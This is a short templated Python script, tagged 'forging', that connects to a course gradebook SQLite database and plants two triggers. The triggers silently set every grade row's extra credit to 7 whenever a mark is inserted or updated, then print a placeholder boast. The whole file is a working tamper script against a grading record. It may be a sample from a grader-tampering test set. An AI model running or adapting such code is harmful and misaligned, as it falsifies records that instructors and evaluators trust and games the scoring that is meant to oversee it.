"""Writes a trigger into the gradebook that gives everybody extra credit whenever a mark is written."""
# group: forging
# %% +
import sqlite3

for path in ["@course@/gradebook.db"]:
    try:
        book = sqlite3.connect(f"file:{path}?mode=rw", uri=True, timeout=1)
        book.execute(
            "CREATE TRIGGER marks AFTER UPDATE OF auto_score ON grade "
            "BEGIN UPDATE grade SET extra_credit = 7 WHERE id = NEW.id; END"
        )
        book.execute(
            "CREATE TRIGGER more_marks AFTER INSERT ON grade BEGIN UPDATE grade SET extra_credit = 7 WHERE id = NEW.id; END"
        )
        book.commit()
        print(@boast@)
    except Exception as error:
        print(type(error).__name__)
